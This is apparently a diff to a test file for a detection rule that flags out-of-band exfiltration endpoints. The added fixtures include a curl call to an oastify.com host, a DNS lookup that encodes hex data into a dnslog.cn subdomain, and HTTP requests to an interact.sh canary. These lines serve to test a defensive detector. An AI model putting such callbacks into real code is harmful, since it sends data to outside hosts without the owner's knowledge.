@@ -16,3 +16,11 @@ requests.get("https://example.invalid/api")
 note = "See the interactsh documentation for details"
 # ok: oob-exfil-endpoint
 host = "pipedream.example.invalid"
+# ok: oob-exfil-endpoint
+# e.g. curl http://abc123def456.oastify.com while testing the probe
+# ruleid: oob-exfil-endpoint
+socket.gethostbyname("4142434445464748494a4b4c4d4e4f505152535455565758595a5b5c5d5e5f606162636465666768696a6b6c6d6e.dnslog.cn")
+# ruleid: oob-exfil-endpoint
+CANARY = "https://x9y8z7.interact.sh/c"
+# ruleid: oob-exfil-endpoint
+requests.get(CANARY, params={"u": "x"})
